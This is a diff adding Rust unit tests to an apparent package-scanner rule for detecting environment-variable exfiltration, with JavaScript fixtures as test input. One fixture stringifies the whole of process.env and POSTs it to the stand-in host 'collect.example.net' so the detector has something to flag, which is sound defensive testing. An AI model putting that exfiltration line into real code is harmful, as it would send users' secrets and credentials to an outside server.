@@ -234,6 +234,38 @@ mod tests {
         assert!(hits(&s, "code/env-exfiltration").is_empty());
     }
 
+    /// A dev server's HTTPS options (read from configuration the environment fed) go to
+    /// `http2.createSecureServer`: listening, not sending (vite 2.7's preview server).
+    #[test]
+    fn negative_server_options_from_the_environment() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "function serve(app) {\n  const opts = { key: process.env.SSL_KEY, cert: process.env.SSL_CERT, allowHTTP1: true };\n  return require('http2').createSecureServer(opts, app);\n}\nmodule.exports = serve;\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/env-exfiltration").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
+    /// The same env → helpers → send path is critical in a small file and at most medium in a
+    /// bundle, where context-insensitive flow joins every caller of a shared helper.
+    #[test]
+    fn long_paths_inside_a_bundle_are_medium() {
+        let code = "function a(x) { return b(x); }\nfunction b(x) { return c(x); }\nfunction c(x) { return d(x); }\nfunction d(x) { return x; }\nconst body = a(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n";
+        let small = scan(&[("package.json", PJ), ("a.js", code)]);
+        let f = crate::rules::test_util::finding(&small, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Critical, "{f:?}");
+        let padded = format!("{code}/*{}*/\n", "x".repeat(crate::rules::BUNDLE_BYTES));
+        let big = scan(&[("package.json", PJ), ("a.js", padded.as_str())]);
+        let f = crate::rules::test_util::finding(&big, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Medium, "{f:?}");
+    }
+
     #[test]
     fn negative_prefix_filter() {
         // Like vite's loadEnv: iterate env keys for a prefix, no network in the function.
